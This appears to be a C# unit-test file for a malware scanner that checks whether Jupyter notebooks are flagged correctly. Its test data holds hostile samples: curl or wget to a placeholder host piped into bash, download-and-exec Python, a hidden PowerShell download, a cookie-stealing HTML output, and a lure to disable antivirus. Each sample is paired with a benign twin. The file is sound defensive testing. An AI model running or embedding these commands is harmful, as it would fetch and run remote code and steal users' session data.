using System.Text;
using System.Text.Json;
using Assay.Scanning.Tests.Evasions;

namespace Assay.Scanning.Tests.Instructions;

/// <summary>Notebooks: cells of every kind, the text between them, saved outputs.</summary>
public static class NotebookTests
{
    /// <summary>Cells of an attack (one line a cell, <c>⏎</c> for a line break), its honest twin.</summary>
    public static TheoryData<string[], string[]> Cells => new()
    {
        { ["!curl -s https://x.invalid/a.sh | bash"], ["!pip install -q transformers accelerate"] },
        { ["import os", "url = 'https://x.invalid/a.sh'", "!curl -s {url} | bash"], ["model = 'org/model'", "!huggingface-cli download {model}"] },
        { ["%%bash⏎wget -q https://x.invalid/p -O /tmp/p⏎chmod +x /tmp/p⏎/tmp/p"], ["%%bash⏎git clone https://github.com/org/repo⏎cd repo && pip install -e ."] },
        { ["import urllib.request", "code = urllib.request.urlopen('https://x.invalid/c').read()", "exec(code)"], ["import requests", "r = requests.get('https://huggingface.co/api/models/org/model')", "print(r.json())"] },
        { ["%%capture⏎import urllib.request⏎exec(urllib.request.urlopen('https://x.invalid/c').read())"], ["%%capture⏎!pip install datasets"] },
        { ["print('''unterminated", "import urllib.request⏎exec(urllib.request.urlopen('https://x.invalid/c').read())"], ["print('''unterminated", "print(1)"] },
        { ["get_ipython().system('curl -s https://x.invalid/a.sh | bash')"], ["get_ipython().system('nvidia-smi')"] },
        { ["if True:⏎    !curl -s https://x.invalid/a.sh | bash"], ["if True:⏎    !nvidia-smi"] },
        { ["%system curl -s https://x.invalid/a.sh | bash"], ["%system ls"] },
        { ["import base64", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiZWNobyBhc3NheSIp'))"], ["import base64", "img = base64.b64decode('iVBORw0KGgo=')"] },
        { ["%%cmd⏎powershell -w hidden -c \"iex (irm https://x.invalid/a)\""], ["%%cmd⏎dir"] },
        { ["%%writefile run.sh⏎curl -s https://x.invalid/a | bash", "!bash run.sh"], ["%%writefile train.sh⏎python train.py --lr 1e-4", "!bash train.sh"] },
    };

    [Theory]
    [MemberData(nameof(Cells))]
    public static void Cells_are_understood_as_one_program(string[] attack, string[] twin)
    {
        var report = ScanAssert.Scan(Notebook(attack), "demo.ipynb");
        Assert.True(report.Verdict == Verdict.Malicious, string.Join(" / ", attack) + " => " + ScanAssert.Describe(report));
        var honest = ScanAssert.Scan(Notebook(twin), "demo.ipynb");
        Assert.True(honest.Verdict == Verdict.Clean, string.Join(" / ", twin) + " => " + ScanAssert.Describe(honest));
    }

    [Fact]
    public static void A_finding_stands_in_the_line_of_the_file_that_holds_the_source()
    {
        var bytes = Encoding.UTF8.GetBytes("{\n \"nbformat\": 4,\n \"cells\": [\n  {\"cell_type\": \"code\",\n   \"source\": [\n    \"import os\\n\",\n    \"!curl -s https://x.invalid/\\u0061 | bash\\n\"\n   ],\n   \"outputs\": []}\n ]\n}\n");
        var report = ScanAssert.Malicious(bytes, "x.invalid/a", "demo.ipynb");
        Assert.Contains(report.Findings, f => f.Rule.Id == "SHL-002" && f.Location.Line == 7);
        Assert.Contains(report.Findings, f => f.Rule.Id == "NBK-001" && f.Location.Line == 7);
    }

    [Fact]
    public static void A_notebook_of_format_3_and_one_with_trailing_commas_is_read()
    {
        ScanAssert.Malicious("{\"nbformat\":3,\"worksheets\":[{\"cells\":[{\"cell_type\":\"code\",\"input\":[\"!curl -s https://x.invalid/a | bash\"],\"outputs\":[]}]}]}"u8.ToArray(), "x.invalid", "old.ipynb");
        ScanAssert.Malicious("{\"cells\":[{\"source\":\"!curl -s https://x.invalid/a | bash\",\"cell_type\":\"code\",},],}"u8.ToArray(), "x.invalid", "odd.ipynb");
    }

    [Theory]
    [InlineData("<script>fetch('https://x.invalid/c?'+document.cookie)</script>", true)]
    [InlineData("<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">", true)]
    [InlineData("<iframe src=\"https://x.invalid/login\"></iframe>", false)]
    [InlineData("<script>Jupyter.notebook.kernel.execute('import os; os.system(\"echo assay\")')</script>", true)]
    public static void Active_outputs_are_told(string html, bool isGrave)
    {
        var report = ScanAssert.Scan(Output(html), "demo.ipynb");
        ScanAssert.HasRule(report, "NBK-002");
        Assert.True(!isGrave || report.Verdict >= Verdict.Suspicious, ScanAssert.Describe(report));
    }

    [Theory]
    [InlineData("<table border=\"1\" class=\"dataframe\"><tr><td>1</td></tr></table>")]
    [InlineData("<script type=\"text/javascript\">window.PlotlyConfig = {MathJaxConfig: 'local'};</script><div class=\"plotly-graph-div\"></div>")]
    [InlineData("<div id=\"df-1\" class=\"colab-df-container\"><button onclick=\"convertToInteractive('df-1')\"></button><script>const el = google.colab.kernel.accessAllowed</script></div>")]
    [InlineData("<iframe width=\"400\" src=\"https://www.youtube.com/embed/abc\"></iframe>")]
    public static void Outputs_of_libraries_are_quiet(string html)
    {
        var report = ScanAssert.Clean(Output(html), "demo.ipynb");
        Assert.DoesNotContain(report.Findings, f => f.Severity >= Severity.Medium);
    }

    [Fact]
    public static void Text_between_cells_is_read_like_a_card()
    {
        var bytes = Encoding.UTF8.GetBytes("{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"# Setup\\n\",\"\\n\",\"Disable Windows Defender before running `start.bat`.\"]}],\"nbformat\":4}");
        ScanAssert.HasRule(ScanAssert.Malicious(bytes, "virus protection", "demo.ipynb"), "LUR-002");
    }

    [Fact]
    public static void Every_prefix_and_every_mutation_of_a_notebook_is_read_to_an_end()
    {
        var bytes = Notebook(["%%bash⏎curl x | sh", "x = !ls\nprint(f'{x}')", "\"\\u12\""]);
        for (var length = 0; length <= bytes.Length; length++)
            ScanAssert.Scan(bytes[..length], "demo.ipynb");
        var random = new Random(20261125);
        for (var round = 0; round < 400; round++)
        {
            var mutated = (byte[])bytes.Clone();
            for (var i = 0; i < 4; i++)
                mutated[random.Next(mutated.Length)] = (byte)"{}[]\",:\\u\n!%<>"[random.Next(14)];
            ScanAssert.Scan(mutated, "demo.ipynb");
        }
    }

    private static byte[] Notebook(string[] cells) => JsonSerializer.SerializeToUtf8Bytes(new
    {
        cells = cells.Select(c => new { cell_type = "code", execution_count = (int?)null, metadata = new { }, outputs = Array.Empty<object>(), source = c.Replace('⏎', '\n').Split('\n').Select(l => l + "\n").ToArray() }),
        metadata = new { kernelspec = new { display_name = "Python 3", language = "python", name = "python3" } },
        nbformat = 4,
        nbformat_minor = 5,
    });

    private static byte[] Output(string html) => JsonSerializer.SerializeToUtf8Bytes(new Dictionary<string, object>
    {
        ["cells"] = new[] { new { cell_type = "code", source = new[] { "show()" }, outputs = new[] { new { output_type = "display_data", data = new Dictionary<string, string[]> { ["text/html"] = [html] } } } } },
        ["nbformat"] = 4,
    });
}
